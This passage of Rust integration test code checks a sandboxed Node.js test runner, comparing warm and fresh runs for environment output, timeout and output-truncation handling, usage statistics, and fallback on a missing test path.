                // Printed as it is when node runs the file itself (no runner to comment it).
                let l = r
                    .stdout
                    .lines()
                    .find_map(|l| l.trim_start_matches("# ").strip_prefix("ENV "))?;
                let v: serde_json::Value = serde_json::from_str(l).ok()?;
                Some(v["env"].clone())
            };
            let (a, b) = (env(&f), env(&w));
            ensure!(
                a.is_some() && a == b && b.as_ref().is_some_and(|e| e.get("PWD").is_none()),
                "node {file}: fresh {a:?}\nwarm {b:?}"
            );
        }
        if what == "timeout" {
            ensure!(sw.timed_out && !sw.success, "{sw:?}");
        }
        if what == "flood" {
            ensure!(sw.output_truncated && !sw.success, "{sw:?}");
        }
        served += 1;
    }
    let stats = warm.warm_stats().clone();
    ensure!(
        stats.served == served && stats.fallbacks == fallbacks && stats.starts == 2,
        "{stats:?}"
    );
    eprintln!(
        "[node warm] {} candidates: fresh {:.2} s, warm {:.2} s",
        projects.len() + 5,
        secs.0,
        secs.1
    );
    // A test path that does not exist: node's runner would exit, so the candidate runs fresh.
    let missing = node_project("node --test nope/", &[("test/b.test.js", &other)])?;
    let kind = detect_project(missing.path()).context("no project detected")?;
    let t = Duration::from_secs(30);
    let w = warm.run(missing.path(), &kind.test_cmd, t).await?;
    let f = fresh.run(missing.path(), &kind.test_cmd, t).await?;
    ensure!(
        !w.success() && (w.exit_code, w.signal) == (f.exit_code, f.signal),
        "warm {w:?}\nfresh {f:?}"
    );
    ensure!(
        warm.warm_stats().served == served,
        "{:?}",
        warm.warm_stats()
    );
    fresh.close().await?;
    warm.close().await?;
    assert_no_containers(&sb).await
}
